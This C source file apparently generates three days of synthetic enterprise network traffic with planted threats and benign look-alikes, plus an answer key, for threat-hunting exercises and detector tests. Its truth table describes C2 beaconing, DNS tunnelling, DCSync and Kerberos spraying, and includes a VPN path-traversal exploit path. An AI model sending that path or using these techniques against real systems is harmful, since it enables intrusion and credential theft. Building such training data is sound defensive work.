/*
 * gen_hunt.c — --scenario hunt: three days of a small enterprise with one planted threat
 * per built-in hunt and benign look-alikes, plus the hunt truth (--hunt-truth).
 *
 * The idea: a schedule.  At start every activity of the three days is planned as an event
 * (time, type, two parameters) — the background of every host and every planted threat —
 * and the events are sorted by time.  The scheduler of gen.c asks for the next event's
 * time like it asks for the next arrival of a mix, and gen_hunt_spawn turns the event into
 * sessions then.  Only live sessions are in memory, so three days of traffic cost what
 * their busiest minute costs.  Sessions that belong to a truth item carry its tag; when
 * one ends, the item's first and last packet times are updated, so the hunt truth states
 * exactly what the file holds.
 *
 * The enterprise (addresses are part of the contract with the hunts' tests):
 *   10.1.10.0/24  workstations .10–.49 (Windows; WS-<octet>, one user each), admin jump
 *                 host .5 (ADM-JUMP01)
 *   10.1.1.0/24   DC 10.1.1.10 (DNS, Kerberos, LDAP, SMB), FS01 .20 (SMB), MFT .30
 *                 (mft.corp.example, HTTPS), intranet .40, monitoring .50, iLO .60,
 *                 application servers .21–.26
 *   10.1.0.1      VPN / edge appliance (vpn.corp.example, HTTPS 443 to the Internet)
 *   10.50.1.0/24  affiliate users .10–.15 (intranet only) and the pivot host .23
 *   Internet      NTP and update servers, CDNs, cloud storage, partners, VPN users, the
 *                 actors (documentation ranges 192.0.2/24, 198.51.100/24, 203.0.113/24
 *                 and other public-looking addresses)
 *
 * Day 1 and 2 (from --start, default 2024-03-04T00:00:00Z) are the baseline; the attack
 * runs on day 3.  Sizes: payload of generated bodies is cut at 128 bytes per frame (a
 * sensor with packet slicing: headers and handshakes stay whole), and transfers of a
 * megabyte or more travel in coalesced segments of up to 64 KB (GRO at the sensor), so
 * byte counts are real and the file stays near 30 MB (docs/generator.md).
 */
#include "gen_hunt.h"

#include "core/err.h"
#include "core/ktime.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define US 1000LL
#define MS 1000000LL
#define SEC 1000000000LL
#define MIN (60 * SEC)
#define HOUR (60 * MIN)
#define DAY (24 * HOUR)

#define NWS 40
#define NAPP 6
#define NAFF 6
#define NVPN 16
#define NPART 4
#define MAX_ITEMS 48
#define MAX_EVENTS (1u << 20)
#define SNAP 128

/* Workstation indexes of the actors (host 10.1.10.<10 + index>). */
enum {
    W_TUNNEL = 2,   /* .12 */
    W_EXFIL = 4,    /* .14 */
    W_DROPBOX = 5,  /* .15, look-alike */
    W_RARE = 7,     /* .17 */
    W_PSEXEC = 9,   /* .19 */
    W_REMOTE = 11,  /* .21 */
    W_BEACON = 13,  /* .23 */
    W_COLLECT = 16, /* .26 */
    W_DGA = 17,     /* .27 */
    W_LONG = 21,    /* .31 */
    W_EGRESS = 26,  /* .36 */
    W_HTTPCLI = 28, /* .38 */
    W_SPRAY = 30,   /* .40 */
    W_SCAN = 33     /* .43 */
};

enum ev_type {
    EV_BROWSE,
    EV_NTP,
    EV_UPDATE,
    EV_DO,
    EV_INTRA,
    EV_SMB,
    EV_LOGON,
    EV_CDN,
    EV_NXNOISE,
    EV_MON,
    EV_VPNUSER,
    EV_PARTNER,
    EV_TELEM,
    EV_ILO,
    EV_ADMWINRM,
    EV_LONGISH,
    EV_DROPBOX,
    EV_BACKUP,
    EV_ONEDRIVE,
    EV_BEACON,
    EV_LONGCONN,
    EV_RARE,
    EV_TUNNEL,
    EV_DGA,
    EV_PSDL,
    EV_EXFIL,
    EV_PSEXEC,
    EV_REMOTE,
    EV_SCAN,
    EV_XZONE,
    EV_COLLECT,
    EV_EDGE,
    EV_PIVOT,
    EV_MFT,
    EV_SPRAY
};

struct hev {
    int64_t t;
    uint32_t seq; /* plan order: ties keep it, so the sort is deterministic */
    uint16_t type;
    uint16_t a;
    uint32_t b;
};

/* One line of the hunt truth. */
struct item {
    const char *hunt;
    uint8_t threat;
    int8_t same_as; /* >= 0: first/last come from that item (the same sessions) */
    char src[48], dst[48], name[160], what[240];
    int64_t first, last;
    uint32_t sessions;
};

struct gen_hunt {
    int64_t t0;
    struct rng r;
    struct hev *ev;
    size_t nev, cap, next;
    uint32_t seq;
    struct item it[MAX_ITEMS];
    size_t nit;
    int err;
    /* truth items by role */
    uint16_t i_beacon, i_ntp[3], i_update, i_long, i_longish, i_rare, i_telem, i_cert, i_ilo;
    uint16_t i_tunnel, i_cdn, i_dga, i_wpad, i_typo, i_http, i_do, i_exfil, i_dbx, i_dbx2, i_egress;
    uint16_t i_onedrive;
    uint16_t i_psexec, i_share, i_remote, i_admwinrm, i_scan, i_mon, i_xzone, i_intra_aff;
    uint16_t i_collect, i_share2, i_edge, i_vpnu, i_mft, i_part[NPART], i_spray, i_logon;
    /* hosts */
    struct host ws[NWS], admin;
    struct host dc, fs, mft, intra, mon, ilo, vpn, app[NAPP];
    struct host aff[NAFF], aff_evil;
    struct host ntp[3], upd, dosrv, telem[2], c2, tunnel, rare, dl, dbx_up, backup;
    struct host attacker, thief, part[NPART], vpnu[NVPN];
    struct host ghost[2][256]; /* addresses of 10.1.1/24 and 10.1.10/24 that nobody has */
    struct gen_cert cs, ilo_cert, rdp_cert, leaf_telem[2], leaf_rare;
    uint16_t tsch_port, drs_port;
    uint8_t c2_sid[32];    /* the beacon's TLS session */
    struct host *dbx_www;  /* www.dropbox.com of the world's web servers */
    struct host *onedrive; /* onedrive.live.com of the world's web servers */
};

static const char *const users[NWS] = {
    "a.sato",      "b.suzuki",    "c.takahashi", "d.tanaka",   "e.watanabe", "f.ito",
    "g.yamamoto",  "h.nakamura",  "i.kobayashi", "j.kato",     "k.yoshida",  "l.yamada",
    "m.sasaki",    "n.yamaguchi", "o.matsumoto", "p.inoue",    "q.kimura",   "r.hayashi",
    "s.shimizu",   "t.yamazaki",  "u.mori",      "v.abe",      "w.ikeda",    "x.hashimoto",
    "y.yamashita", "z.ishikawa",  "a.nakajima",  "b.maeda",    "c.fujita",   "d.ogawa",
    "e.goto",      "f.okada",     "g.hasegawa",  "h.murakami", "i.kondo",    "j.ishii",
    "k.saito",     "l.sakamoto",  "m.endo",      "n.aoki"};

/* ------------------------------------------------------------------ helpers */

static int64_t at(const struct gen_hunt *h, int day, int hour, int min)
{
    return h->t0 + day * DAY + hour * HOUR + min * MIN;
}

static int64_t jitter(struct rng *r, int64_t t, int64_t spread)
{
    return t + (int64_t)gen_rng_below(r, (uint32_t)(spread / MS + 1)) * MS;
}

static void ev_add(struct gen_hunt *h, int64_t t, int type, uint32_t a, uint32_t b)
{
    if (h->err)
        return;
    if (h->nev == h->cap) {
        size_t nc = h->cap ? h->cap * 2 : 4096;
        struct hev *e;
        if (nc > MAX_EVENTS || !(e = realloc(h->ev, nc * sizeof(*e)))) {
            h->err = nc > MAX_EVENTS ? KS_ELIMIT : KS_ENOMEM;
            return;
        }
        h->ev = e;
        h->cap = nc;
    }
    if (t < h->t0)
        t = h->t0;
    h->ev[h->nev++] = (struct hev){t, h->seq++, (uint16_t)type, (uint16_t)a, b};
}

static int ev_cmp(const void *pa, const void *pb)
{
    const struct hev *a = pa, *b = pb;
    if (a->t != b->t)
        return a->t < b->t ? -1 : 1;
    return a->seq < b->seq ? -1 : a->seq > b->seq;
}

static uint16_t item(struct gen_hunt *h, const char *hunt, int threat, const char *src,
                     const char *dst, const char *name, const char *what)
{
    if (h->nit >= MAX_ITEMS) {
        h->err = KS_ELIMIT;
        return 0;
    }
    struct item *x = &h->it[h->nit];
    x->hunt = hunt;
    x->threat = (uint8_t)threat;
    x->same_as = -1;
    snprintf(x->src, sizeof(x->src), "%s", src);
    snprintf(x->dst, sizeof(x->dst), "%s", dst);
    snprintf(x->name, sizeof(x->name), "%s", name);
    snprintf(x->what, sizeof(x->what), "%s", what);
    return (uint16_t)h->nit++;
}

static const char *ip(const struct host *hs, char *buf)
{
    snprintf(buf, 16, "%u.%u.%u.%u", hs->v4[0], hs->v4[1], hs->v4[2], hs->v4[3]);
    return buf;
}

/* ------------------------------------------------------------------ hosts */

static const uint8_t oui_dell[3] = {0x18, 0x66, 0xda};
static const uint8_t oui_vmware[3] = {0x00, 0x50, 0x56};
static const uint8_t oui_hpe[3] = {0x94, 0x40, 0xc9};

/*
 * subnet: 10 workstations, 11 servers, 12 DMZ, 50 affiliate (behind a WAN router), 0 the
 * Internet.  Hosts behind the router (Internet, affiliate) carry the router's MAC.
 */
static void mkhost(struct host *hs, struct rng *r, const struct world *w, uint8_t a, uint8_t b,
                   uint8_t c, uint8_t d, uint8_t os, uint8_t subnet, const char *name)
{
    memset(hs, 0, sizeof(*hs));
    hs->v4[0] = a;
    hs->v4[1] = b;
    hs->v4[2] = c;
    hs->v4[3] = d;
    hs->os = os;
    hs->subnet = subnet;
    if (subnet == 0 || subnet == 50) {
        memcpy(hs->mac, w->router.mac, 6);
        hs->ttl = (uint8_t)((os == OS_WINDOWS ? 128
                             : os == OS_NET   ? 255
                                              : 64) -
                            gen_rng_range(r, subnet ? 3 : 8, subnet ? 5 : 22));
    } else {
        memcpy(hs->mac, subnet == 10 ? oui_dell : os == OS_NET ? oui_hpe : oui_vmware, 3);
        gen_rng_fill(r, hs->mac + 3, 3);
        /* Workstations are captured before their first hop; servers one routed hop away. */
        hs->ttl = (uint8_t)((os == OS_WINDOWS ? 128 : os == OS_NET ? 255 : 64) - (subnet != 10));
    }
    snprintf(hs->name, sizeof(hs->name), "%s", name ? name : "");
}

static void public_addr(struct rng *r, uint8_t v4[4])
{
    static const uint8_t isp[] = {24, 47, 67, 71, 73, 76, 98, 108, 174, 178, 188, 217};
    v4[0] = isp[gen_rng_below(r, sizeof(isp))];
    v4[1] = (uint8_t)gen_rng_below(r, 256);
    v4[2] = (uint8_t)gen_rng_below(r, 256);
    v4[3] = (uint8_t)gen_rng_range(r, 2, 254);
}

static void make_hosts(struct gen_hunt *h, struct world *w, struct rng *r)
{
    char nm[64];
    for (int i = 0; i < NWS; i++) {
        snprintf(nm, sizeof(nm), "WS-%03d", 10 + i);
        mkhost(&h->ws[i], r, w, 10, 1, 10, (uint8_t)(10 + i), OS_WINDOWS, 10, nm);
        /* Browsers: Chrome, Edge (Firefox-like shape) or SChannel clients; no script UAs. */
        h->ws[i].agent = (uint8_t)gen_rng_below(r, 3);
    }
    mkhost(&h->admin, r, w, 10, 1, 10, 5, OS_WINDOWS, 10, "ADM-JUMP01");
    mkhost(&h->dc, r, w, 10, 1, 1, 10, OS_WINDOWS, 11, "dc01.corp.example");
    mkhost(&h->fs, r, w, 10, 1, 1, 20, OS_WINDOWS, 11, "FS01");
    mkhost(&h->mft, r, w, 10, 1, 1, 30, OS_LINUX, 11, "mft.corp.example");
    mkhost(&h->intra, r, w, 10, 1, 1, 40, OS_LINUX, 11, "intranet.corp.example");
    mkhost(&h->mon, r, w, 10, 1, 1, 50, OS_LINUX, 11, "mon01.corp.example");
    mkhost(&h->ilo, r, w, 10, 1, 1, 60, OS_NET, 11, "ilo-fs01.corp.example");
    for (int i = 0; i < NAPP; i++) {
        snprintf(nm, sizeof(nm), "app%02d.corp.example", i + 1);
        mkhost(&h->app[i], r, w, 10, 1, 1, (uint8_t)(21 + i), OS_WINDOWS, 11, nm);
    }
    mkhost(&h->vpn, r, w, 10, 1, 0, 1, OS_NET, 12, "vpn.corp.example");
    for (int i = 0; i < NAFF; i++)
        mkhost(&h->aff[i], r, w, 10, 50, 1, (uint8_t)(10 + i), OS_WINDOWS, 50, "");
    mkhost(&h->aff_evil, r, w, 10, 50, 1, 23, OS_WINDOWS, 50, "");
    for (int n = 0; n < 2; n++)
        for (int i = 0; i < 256; i++)
            mkhost(&h->ghost[n][i], r, w, 10, 1, n ? 10 : 1, (uint8_t)i, OS_WINDOWS, n ? 10 : 11,
                   "");

    mkhost(&h->ntp[0], r, w, 20, 101, 57, 9, OS_WINDOWS, 0, "time.windows.com");
    mkhost(&h->ntp[1], r, w, 162, 159, 200, 1, OS_LINUX, 0, "0.pool.ntp.org");
    mkhost(&h->ntp[2], r, w, 162, 159, 200, 123, OS_LINUX, 0, "1.pool.ntp.org");
    mkhost(&h->upd, r, w, 93, 184, 221, 240, OS_LINUX, 0, "ctldl.windowsupdate.com");
    mkhost(&h->dosrv, r, w, 23, 51, 121, 18, OS_LINUX, 0, "dl.delivery.mp.microsoft.com");
    mkhost(&h->telem[0], r, w, 20, 42, 65, 92, OS_WINDOWS, 0, "v10.events.data.microsoft.com");
    mkhost(&h->telem[1], r, w, 20, 44, 229, 112, OS_WINDOWS, 0, "settings-win.data.microsoft.com");
    mkhost(&h->c2, r, w, 198, 51, 100, 77, OS_LINUX, 0, "cdn-telemetry.example-c2.net");
    mkhost(&h->tunnel, r, w, 203, 0, 113, 50, OS_LINUX, 0, "sync.relay-node.example");
    mkhost(&h->rare, r, w, 192, 0, 2, 200, OS_LINUX, 0, "api.dataupload-svc.example");
    mkhost(&h->dl, r, w, 203, 0, 113, 66, OS_LINUX, 0, "files.quick-share.example");
    mkhost(&h->dbx_up, r, w, 162, 125, 5, 14, OS_LINUX, 0, "content.dropboxapi.com");
    mkhost(&h->backup, r, w, 203, 0, 113, 90, OS_LINUX, 0, "backup.offsite-store.example");
    mkhost(&h->attacker, r, w, 185, 220, 101, 42, OS_LINUX, 0, "");
    mkhost(&h->thief, r, w, 45, 146, 164, 110, OS_LINUX, 0, "");
    static const uint8_t part[NPART][4] = {
        {93, 184, 215, 10}, {151, 101, 2, 33}, {81, 169, 145, 90}, {62, 116, 130, 8}};
    for (int i = 0; i < NPART; i++)
        mkhost(&h->part[i], r, w, part[i][0], part[i][1], part[i][2], part[i][3], OS_WINDOWS, 0,
               "");
    for (int i = 0; i < NVPN; i++) {
        uint8_t v4[4];
        public_addr(r, v4);
        mkhost(&h->vpnu[i], r, w, v4[0], v4[1], v4[2], v4[3], OS_WINDOWS, 0, "");
    }
    /* The Dropbox web site of the world's list, at a Dropbox address like the API host. */
    static const uint8_t dbx[4] = {162, 125, 6, 18};
    h->dbx_www = &w->web[0];
    for (uint32_t i = 0; i < w->nweb; i++)
        if (strcmp(w->web[i].name, "www.dropbox.com") == 0)
            h->dbx_www = &w->web[i];
    memcpy(h->dbx_www->v4, dbx, 4);
    h->onedrive = &w->web[0];
    for (uint32_t i = 0; i < w->nweb; i++)
        if (strcmp(w->web[i].name, "onedrive.live.com") == 0)
            h->onedrive = &w->web[i];
}

/* The host at 10.1.1.x / 10.1.10.x (a ghost when nobody has that address). */
static struct host *lan_host(struct gen_hunt *h, int net10, uint8_t x)
{
    if (net10) {
        if (x == 5)
            return &h->admin;
        if (x >= 10 && x < 10 + NWS)
            return &h->ws[x - 10];
        return &h->ghost[1][x];
    }
    struct host *srv[] = {&h->dc,     &h->fs,     &h->mft,    &h->intra,  &h->mon,    &h->ilo,
                          &h->app[0], &h->app[1], &h->app[2], &h->app[3], &h->app[4], &h->app[5]};
    for (size_t i = 0; i < sizeof(srv) / sizeof(srv[0]); i++)
        if (srv[i]->v4[3] == x)
            return srv[i];
    return &h->ghost[0][x];
}

/* ------------------------------------------------------------------ the plan */

/* Office presence of a workstation on a day: [*from, *to). */
static void office(struct gen_hunt *h, struct rng *r, int day, int64_t *from, int64_t *to)
{
    *from = jitter(r, at(h, day, 7, 30), 2 * HOUR);
    *to = jitter(r, at(h, day, 16, 30), 2 * HOUR);
}

static void plan_background(struct gen_hunt *h, struct rng *r)
{
    for (int i = 0; i < NWS; i++) {
        /* NTP every 1024 s (w32time's poll interval), update check every hour, all day. */
        int64_t t = h->t0 + (int64_t)gen_rng_below(r, 1024) * SEC;
        for (; t < h->t0 + 3 * DAY; t += 1024 * SEC + (int64_t)gen_rng_range(r, 0, 2000) * MS)
            ev_add(h, t, EV_NTP, (uint32_t)i, (uint32_t)(i % 3));
        t = h->t0 + (int64_t)gen_rng_below(r, 3600) * SEC;
        for (; t < h->t0 + 3 * DAY; t += HOUR + (int64_t)gen_rng_range(r, 0, 60000) * MS)
            ev_add(h, t, EV_UPDATE, (uint32_t)i, 0);
        for (int d = 0; d < 3; d++) {
            int64_t from, to;
            office(h, r, d, &from, &to);
            ev_add(h, from, EV_LOGON, (uint32_t)i, 0);
            for (t = from + 2 * MIN; t < to; t += (int64_t)gen_rng_range(r, 9, 46) * MIN)
                ev_add(h, t, EV_BROWSE, (uint32_t)i, 0);
            for (int k = 0; k < 6; k++)
                ev_add(h, from + (int64_t)gen_rng_below(r, (uint32_t)((to - from) / SEC)) * SEC,
                       EV_CDN, (uint32_t)i, 0);
            for (int k = 0; k < 2; k++)
                ev_add(h, from + (int64_t)gen_rng_below(r, (uint32_t)((to - from) / SEC)) * SEC,
                       EV_INTRA, (uint32_t)i, 0);
            if (gen_rng_chance(r, 750))
                ev_add(h, from + (int64_t)gen_rng_range(r, 10, 400) * MIN, EV_SMB, (uint32_t)i, 0);
            ev_add(h, from + (int64_t)gen_rng_range(r, 1, 30) * MIN, EV_NXNOISE, (uint32_t)i, 0);
            if (gen_rng_chance(r, 300))
                ev_add(h, from + (int64_t)gen_rng_range(r, 30, 400) * MIN, EV_NXNOISE, (uint32_t)i,
                       1);
            ev_add(h, from + (int64_t)gen_rng_range(r, 5, 300) * MIN, EV_DO, (uint32_t)i, 0);
            ev_add(h, from + (int64_t)gen_rng_range(r, 1, 60) * MIN, EV_TELEM, (uint32_t)i, 0);
            ev_add(h, from + (int64_t)gen_rng_range(r, 120, 420) * MIN, EV_TELEM, (uint32_t)i, 1);
            if (gen_rng_chance(r, 350))
                ev_add(h, from + (int64_t)gen_rng_range(r, 20, 420) * MIN, EV_LONGISH, (uint32_t)i,
                       0);
        }
    }
    for (int d = 0; d < 3; d++) {
        /* The admin: the iLO page, SMB on the share, WinRM to the application servers. */
        ev_add(h, at(h, d, 9, 12), EV_ILO, 0, 0);
        ev_add(h, at(h, d, 14, 40), EV_ILO, 0, 0);
        ev_add(h, jitter(r, at(h, d, 10, 0), HOUR), EV_SMB, NWS, 0);
        for (int k = 0; k < NAPP; k++)
            ev_add(h, jitter(r, at(h, d, 11, 0), 3 * HOUR), EV_ADMWINRM, 0, (uint32_t)k);
        ev_add(h, at(h, d, 8, 50), EV_LOGON, NWS, 0);
        /* Affiliates use the intranet web site. */
        for (int i = 0; i < NAFF; i++)
            for (int k = 0; k < 5; k++)
                ev_add(h, jitter(r, at(h, d, 8, 0), 9 * HOUR), EV_INTRA, (uint32_t)(NWS + 1 + i),
                       0);
        /* VPN users; partners pick up files from the MFT appliance. */
        for (int i = 0; i < NVPN; i++)
            for (int k = 0; k < 2; k++)
                ev_add(h, jitter(r, at(h, d, 7, 0), 12 * HOUR), EV_VPNUSER, (uint32_t)i,
                       (uint32_t)gen_rng_chance(r, 300));
        for (int i = 0; i < NPART; i++)
            for (int k = 0; k < 2; k++)
                ev_add(h, jitter(r, at(h, d, 9, 0), 8 * HOUR), EV_PARTNER, (uint32_t)i, 0);
        /* The Dropbox user downloads (more on day 3); the backup client's small uploads. */
        for (int k = 0; k < (d == 2 ? 6 : 2); k++)
            ev_add(h, jitter(r, at(h, d, 10, 0), 6 * HOUR), EV_DROPBOX, 0, (uint32_t)d);
        if (d < 2)
            for (int k = 0; k < 3; k++)
                ev_add(h, jitter(r, at(h, d, 9, 0), 8 * HOUR), EV_BACKUP, 0, 0);
        /* The exfiltrating user syncs work files to OneDrive every day (so its day-3
         * upload is large but its outbound baseline is not empty). */
        for (int k = 0; k < 3; k++)
            ev_add(h, jitter(r, at(h, d, 9, 30), 7 * HOUR), EV_ONEDRIVE, 0, 0);
    }
    /* Admin host NTP like everybody; monitoring every 5 minutes, 10 servers. */
    int64_t t = h->t0 + (int64_t)gen_rng_below(r, 1024) * SEC;
    for (; t < h->t0 + 3 * DAY; t += 1024 * SEC + (int64_t)gen_rng_range(r, 0, 2000) * MS)
        ev_add(h, t, EV_NTP, NWS, 0);
    for (t = h->t0 + 17 * SEC; t < h->t0 + 3 * DAY; t += 5 * MIN)
        for (uint32_t k = 0; k < 10; k++)
            ev_add(h, t + k * 700 * MS, EV_MON, 0, k);
}

static void plan_threats(struct gen_hunt *h, struct rng *r)
{
    /* beacon + cert: 60 s ± 15 % from 08:00 for 10 hours on day 3. */
    int64_t t = at(h, 2, 8, 0);
    for (uint32_t k = 0; t < at(h, 2, 18, 0); k++) {
        ev_add(h, t, EV_BEACON, 0, k);
        t += (int64_t)gen_rng_range(r, 51000, 69000) * MS;
    }
    ev_add(h, at(h, 2, 9, 3), EV_LONGCONN, 0, 0);
    for (uint32_t k = 0; k < 10; k++)
        ev_add(h, jitter(r, at(h, 2, 10, 0), 150 * MIN), EV_RARE, 0, k);
    t = at(h, 2, 13, 0);
    for (uint32_t k = 0; k < 400; k++, t += (int64_t)gen_rng_range(r, 6000, 12000) * MS)
        ev_add(h, t, EV_TUNNEL, 0, k);
    t = at(h, 2, 10, 5);
    for (uint32_t k = 0; k < 180; k++, t += (int64_t)gen_rng_range(r, 4000, 16000) * MS)
        ev_add(h, t, EV_DGA, 0, k);
    ev_add(h, at(h, 2, 9, 41), EV_PSDL, 0, 0);
    ev_add(h, at(h, 2, 9, 42), EV_PSDL, 0, 1);
    ev_add(h, at(h, 2, 2, 30), EV_EXFIL, 0, 0);
    for (uint32_t k = 0; k < 24; k++)
        ev_add(h, jitter(r, at(h, 2, 11, 0) + k * 12 * MIN, 5 * MIN), EV_BACKUP, 1, k);
    ev_add(h, at(h, 2, 11, 15), EV_PSEXEC, 0, 0);
    ev_add(h, at(h, 2, 11, 52), EV_REMOTE, 0, 0);
    ev_add(h, at(h, 2, 12, 4), EV_REMOTE, 0, 1);
    ev_add(h, at(h, 2, 12, 31), EV_REMOTE, 0, 2);
    t = at(h, 2, 14, 0);
    for (uint32_t k = 0; k < 254 * 3 + 254; k++, t += (int64_t)gen_rng_range(r, 100, 400) * MS)
        ev_add(h, t, EV_SCAN, 0, k);
    for (uint32_t k = 0; k < 4; k++)
        ev_add(h, at(h, 2, 15, 0) + k * 4 * MIN, EV_XZONE, 0, k);
    for (uint32_t k = 0; k < 8; k++)
        ev_add(h, at(h, 2, 16, 0) + k * 5 * MIN, EV_COLLECT, 0, k);
    t = at(h, 2, 3, 10);
    for (uint32_t k = 0; k < 10; k++, t += (int64_t)gen_rng_range(r, 2000, 9000) * MS)
        ev_add(h, t, EV_EDGE, 0, k);
    ev_add(h, at(h, 2, 3, 40), EV_PIVOT, 0, 0);
    ev_add(h, at(h, 2, 3, 42), EV_PIVOT, 0, 1);
    t = at(h, 2, 1, 0);
    for (uint32_t k = 0; k < 60; k++, t += 3 * MIN)
        ev_add(h, t, EV_MFT, 0, k);
    t = at(h, 2, 22, 0);
    for (uint32_t k = 0; k < 30; k++, t += (int64_t)gen_rng_range(r, 800, 2000) * MS)
        ev_add(h, t, EV_SPRAY, 0, k);
}

/* ------------------------------------------------------------------ truth items */

static void plan_items(struct gen_hunt *h)
{
    char a[16], b[16];
    const char *ws = "10.1.10.0/24";
    h->i_beacon = item(h, "beacon", 1, ip(&h->ws[W_BEACON], a), ip(&h->c2, b), h->c2.name,
                       "TLS beacon every 60 s +-15 % for 10 h on day 3, small similar sizes");
    for (int i = 0; i < 3; i++)
        h->i_ntp[i] = item(h, "beacon", 0, ws, ip(&h->ntp[i], a), h->ntp[i].name,
                           "NTP every 1024 s from many hosts, all three days");
    h->i_update = item(h, "beacon", 0, ws, ip(&h->upd, a), h->upd.name,
                       "hourly update check (HTTP, Microsoft-CryptoAPI) from every workstation");
    h->i_long = item(h, "long-conn", 1, ip(&h->ws[W_LONG], a), ip(&h->tunnel, b), h->tunnel.name,
                     "one TLS session held for 8 h on day 3");
    h->i_longish = item(h, "long-conn", 0, ws, "", "teams.microsoft.com",
                        "normal sessions of 3-15 minutes (Teams, Outlook)");
    h->i_rare = item(h, "rare-tls", 1, ip(&h->ws[W_RARE], a), ip(&h->rare, b), h->rare.name,
                     "Python/OpenSSL ClientHello (JA3 seen nowhere else), 10 sessions on day 3");
    h->i_telem = item(h, "rare-tls", 0, ws, "", "v10.events.data.microsoft.com",
                      "SChannel TLS 1.2 clients on every workstation (common JA3)");
    h->i_cert = item(h, "cert", 1, ip(&h->ws[W_BEACON], a), ip(&h->c2, b), "Major Cobalt Strike",
                     "Cobalt Strike default certificate, serial 0x08BB00EE (146473198)");
    h->it[h->i_cert].same_as = (int8_t)h->i_beacon;
    h->i_ilo = item(h, "cert", 0, ip(&h->admin, a), ip(&h->ilo, b), h->ilo.name,
                    "self-signed certificate of an internal iLO appliance, admin use daily");
    h->i_tunnel =
        item(h, "dns-tunnel", 1, ip(&h->ws[W_TUNNEL], a), ip(&h->dc, b), "t.tunnel-example.com",
             "400 TXT queries with long base32 labels, TXT answers, 1 h on day 3");
    h->i_cdn = item(h, "dns-tunnel", 0, ws, ip(&h->dc, a), "akamaiedge.net",
                    "CDN names with short unique subdomains from every workstation, low volume");
    h->i_dga = item(h, "nxdomain", 1, ip(&h->ws[W_DGA], a), ip(&h->dc, b), "",
                    "180 DGA-like names [a-z]{12,20}.(com|net|info), all NXDOMAIN, day 3");
    h->i_wpad = item(h, "nxdomain", 0, ws, ip(&h->dc, a), "wpad.corp.example",
                     "search-suffix NXDOMAIN every morning from every workstation");
    h->i_typo = item(h, "nxdomain", 0, ws, ip(&h->dc, a), "typos",
                     "a few mistyped names from several workstations");
    h->i_http = item(h, "http-client", 1, ip(&h->ws[W_HTTPCLI], a), ip(&h->dl, b),
                     "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) "
                     "WindowsPowerShell/5.1.19041.1682",
                     "PowerShell GET /a.ps1 then certutil (Microsoft-CryptoAPI/10.0) GET "
                     "/update.exe over cleartext HTTP, day 3");
    h->i_do =
        item(h, "http-client", 0, ws, ip(&h->dosrv, a), "Microsoft-Delivery-Optimization/10.0",
             "Delivery Optimization downloads from every workstation daily");
    h->i_exfil = item(h, "cloud-exfil", 1, ip(&h->ws[W_EXFIL], a), ip(&h->dbx_up, b),
                      h->dbx_up.name, "~200 MB uploaded over TLS at 02:30 on day 3");
    h->i_dbx = item(h, "cloud-exfil", 0, ip(&h->ws[W_DROPBOX], a), "162.125.6.18",
                    "www.dropbox.com", "a user downloading from Dropbox in office hours");
    h->i_egress = item(h, "egress", 1, ip(&h->ws[W_EGRESS], a), ip(&h->backup, b), h->backup.name,
                       "~600 MB out on day 3 against ~3 MB a day on days 1-2 (TLS uploads)");
    h->i_onedrive =
        item(h, "cloud-exfil", 0, ip(&h->ws[W_EXFIL], a), ip(h->onedrive, b), h->onedrive->name,
             "the same user syncing 5-15 MB to OneDrive three "
             "times a day in office hours, all three days");
    h->i_dbx2 = item(h, "egress", 0, ip(&h->ws[W_DROPBOX], a), "162.125.6.18", "www.dropbox.com",
                     "inbound grew on day 3 (more downloads), outbound stayed small");
    h->it[h->i_dbx2].same_as = (int8_t)h->i_dbx;
    h->i_psexec = item(h, "psexec", 1, ip(&h->ws[W_PSEXEC], a), ip(&h->fs, b),
                       "\\\\FS01\\ADMIN$\\PSEXESVC.exe",
                       "PSEXESVC.exe written to ADMIN$, service created and started over svcctl");
    h->i_share = item(h, "psexec", 0, ws, ip(&h->fs, a), "\\\\FS01\\share",
                      "users and the admin host reading and writing documents every day");
    h->i_remote = item(h, "remote-exec", 1, ip(&h->ws[W_REMOTE], a), ip(&h->dc, b),
                       "Microsoft WinRM Client; SchRpcRegisterTask; DsGetNCChanges",
                       "WinRM POST /wsman, scheduled task over ITaskSchedulerService, DCSync "
                       "over drsuapi, from a workstation to the DC on day 3");
    h->i_admwinrm =
        item(h, "remote-exec", 0, ip(&h->admin, a), "10.1.1.21-26", "Microsoft WinRM Client",
             "the admin jump host using WinRM to the application servers daily");
    h->i_scan = item(h, "scan", 1, ip(&h->ws[W_SCAN], a), "10.1.1.0/24", "",
                     "connect scan of 254 addresses x 22/445/3389 and 254 x 445, day 3");
    h->i_mon = item(h, "scan", 0, ip(&h->mon, a), "10.1.1.0/24", "",
                    "monitoring server checking 10 servers every 5 minutes");
    h->i_xzone = item(h, "cross-zone", 1, ip(&h->aff_evil, a), ip(&h->fs, b), "445,3389",
                      "affiliate host's first ever SMB and RDP to FS01 and the DC, day 3");
    h->i_intra_aff = item(h, "cross-zone", 0, "10.50.1.0/24", ip(&h->intra, a), h->intra.name,
                          "affiliate users on the intranet web site (80/443) every day");
    h->i_collect =
        item(h, "collection", 1, ip(&h->ws[W_COLLECT], a), ip(&h->fs, b), "\\\\FS01\\share",
             "320 files read from the share within 40 minutes on day 3");
    h->i_share2 = item(h, "collection", 0, ws, ip(&h->fs, a), "\\\\FS01\\share",
                       "users reading 2-4 documents a day");
    h->it[h->i_share2].same_as = (int8_t)h->i_share;
    h->i_edge = item(h, "edge-probe", 1, ip(&h->attacker, a), ip(&h->vpn, b),
                     "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
                     "known VPN exploit paths over HTTP, then the appliance opens SMB and LDAP "
                     "to the DC for the first time, day 3");
    h->i_vpnu = item(h, "edge-probe", 0, "", ip(&h->vpn, a), h->vpn.name,
                     "VPN users' TLS to the appliance every day");
    h->i_mft = item(h, "mft-theft", 1, ip(&h->thief, a), ip(&h->mft, b), h->mft.name,
                    "300 MB downloaded in 60 TLS sessions 01:00-04:00 on day 3");
    for (int i = 0; i < NPART; i++)
        h->i_part[i] = item(h, "mft-theft", 0, ip(&h->part[i], a), ip(&h->mft, b), h->mft.name,
                            "a partner picking up a few MB a day");
    h->i_spray = item(h, "krb-spray", 1, ip(&h->ws[W_SPRAY], a), ip(&h->dc, b), "",
                      "AS-REQs for 30 user names within a minute, mostly "
                      "KDC_ERR_C_PRINCIPAL_UNKNOWN / PREAUTH_FAILED, day 3");
    h->i_logon = item(h, "krb-spray", 0, ws, ip(&h->dc, a), "",
                      "morning logons: one user per host, pre-authentication then AS-REP");
}

/* ------------------------------------------------------------------ spawning */

struct spawn {
